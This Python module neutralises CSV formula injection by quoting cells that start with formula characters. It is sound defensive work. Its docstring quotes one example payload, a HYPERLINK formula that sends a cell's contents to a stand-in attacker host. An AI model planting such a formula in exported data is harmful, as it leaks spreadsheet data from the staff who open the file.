"""CSV cells that a spreadsheet cannot run as formulas.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return before one) as a formula: a supporter named
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run in a staff member's spreadsheet.
Every CSV export writes its cells through :func:`csv_cell`, which puts a single quote in front
of such a value (OWASP's advice): the spreadsheet shows the text as typed, quote hidden.
"""

from __future__ import annotations

import datetime
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class CsvWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def csv_cell(value: object) -> str:
    """``value`` as text for a CSV cell, with a leading quote when it could start a formula.

    ``None`` is an empty cell; numbers are written as they are, so that a negative count stays
    a number ("-3"), since only text typed by people can carry a formula.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime.datetime | datetime.date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_rows_write(writer: CsvWriter, rows: Iterable[Iterable[object]]) -> int:
    """Write every row through :func:`csv_cell`; returns how many rows were written."""
    count = 0
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
        count += 1
    return count
